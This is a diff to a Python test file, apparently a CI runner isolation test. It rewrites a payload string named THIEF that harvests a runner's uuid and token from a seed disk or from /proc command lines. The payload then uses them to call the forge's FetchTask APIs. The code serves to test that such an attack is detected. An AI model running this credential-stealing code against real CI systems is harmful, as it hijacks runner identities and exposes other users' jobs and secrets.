@@ -59,14 +59,11 @@ def test_an_attack_is_noticed_where_nothing_keeps_it_apart(lay_ground: Callable[
 
 
 THIEF = """
-import json, os, pathlib, urllib.error, urllib.request
-job = pathlib.Path("/var/lib/vmrunner-job")
-if (job / ".runner").exists():
-    runner = json.loads((job / ".runner").read_text())
-else:
-    words = next(path.read_bytes().split(b"\\0") for path in pathlib.Path("/proc").glob("[0-9]*/cmdline") if b"--uuid" in path.read_bytes())
-    named = lambda option: words[words.index(option) + 1].decode()
-    runner = {"address": named(b"--url"), "uuid": named(b"--uuid"), "token": (job / "token").read_text()}
+import json, pathlib, re, urllib.error, urllib.request
+seed = pathlib.Path("/dev/disk/by-id/virtio-vmrunner-seed").read_bytes()
+named = lambda pattern: re.search(pattern, seed)[1].decode()
+runner = {"uuid": named(rb"uuid[^0-9a-z]+([0-9a-f-]{36})"), "token": named(rb"token[^0-9a-z]+([0-9a-f]{40})")}
+runner["address"] = named(rb"(http://forge.example:[0-9]+)")
 for method, body in (("FetchTask", {}), ("FetchSingleTask", {"handle": ""})):
     address = f"{runner['address']}/api/actions/runner.v1.RunnerService/{method}"
     headers = {"Content-Type": "application/json", "x-runner-uuid": runner["uuid"], "x-runner-token": runner["token"]}
